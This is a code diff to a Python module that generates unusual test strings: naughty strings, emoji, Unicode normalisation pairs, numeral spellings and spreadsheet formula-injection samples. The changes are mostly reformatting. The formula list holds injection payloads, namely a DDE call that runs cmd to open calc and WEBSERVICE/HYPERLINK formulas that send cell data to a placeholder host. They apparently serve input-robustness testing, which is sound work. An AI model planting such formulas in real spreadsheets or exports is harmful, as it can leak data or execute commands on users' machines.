@@ -75,11 +75,15 @@ def _naughty() -> Iterator[Text]:
     for name, content in entries("blns"):
         if name.endswith("/blns.base64.json"):
             lists["blns base64"] = [base64.b64decode(each).decode("utf-8", "replace") for each in json.loads(content)]
-    yield from _distinct((f"{name} {number}", text) for name, texts in lists.items() for number, text in enumerate(texts))
+    yield from _distinct(
+        (f"{name} {number}", text) for name, texts in lists.items() for number, text in enumerate(texts)
+    )
 
 
 def _emoji() -> Iterator[Text]:
-    files = {name.rpartition("/")[2]: content.decode() for name, content in entries("unicode-data") if "/emoji/" in name}
+    files = {
+        name.rpartition("/")[2]: content.decode() for name, content in entries("unicode-data") if "/emoji/" in name
+    }
     for line in files["emoji-test.txt"].splitlines():
         if line and not line.startswith("#"):
             yield Text(f"emoji {line.partition(';')[0].strip()}", _points(line.partition(";")[0]))
@@ -92,7 +96,7 @@ def normalisations() -> Iterator[tuple[str, str]]:
         if line and line[0] not in "#@":
             columns = [_points(each) for each in line.split(";")[:5]]
             for place, text in enumerate(columns):
-                yield text, columns[1] if place < 3 else columns[3]  # noqa: PLR2004  as the file's head says
+                yield text, columns[1] if place < 3 else columns[3]
 
 
 def _points(text: str) -> str:
@@ -127,7 +131,7 @@ _FORMULAS = (
     '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")',
     '=WEBSERVICE("http://example.invalid/")',
     '=IMPORTXML("http://example.invalid/","//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "  =1+1",
     '"=1+1"',
     "'=1+1",
@@ -157,8 +161,36 @@ def _numerals() -> Iterator[Text]:
             yield Text(f"mixed {start:04X}", "1" + script[2])
     for text in (
         *("1e3", "0x10", "0b1", "1_000", "+5", "--5", "１２", "1.2.3", "1,2,3", "1.234,5", "1,234.5", "1 234", "1'234"),
-        *("٫", "١٬٢", "½", "Ⅻ", "一", "NaN", "inf", "Infinity", "-0", "9" * 400, "1" + "0" * 19, "1.e5", "0.1e1", "１．５"),
-        *("1\u00a0234", "1\u202f234", "1\u2009234", "1\u066c234", "−5", "‒5", "1\u200b2", "5%", "5 %", "#5", "5₫", "٪5"),
+        *(
+            "٫",
+            "١٬٢",
+            "½",
+            "Ⅻ",
+            "一",
+            "NaN",
+            "inf",
+            "Infinity",
+            "-0",
+            "9" * 400,
+            "1" + "0" * 19,
+            "1.e5",
+            "0.1e1",
+            "１．５",
+        ),
+        *(
+            "1\u00a0234",
+            "1\u202f234",
+            "1\u2009234",
+            "1\u066c234",
+            "−5",
+            "‒5",
+            "1\u200b2",
+            "5%",
+            "5 %",
+            "#5",
+            "5₫",
+            "٪5",
+        ),
     ):
         yield Text(f"spelling {text[:20]!r}", text)
 
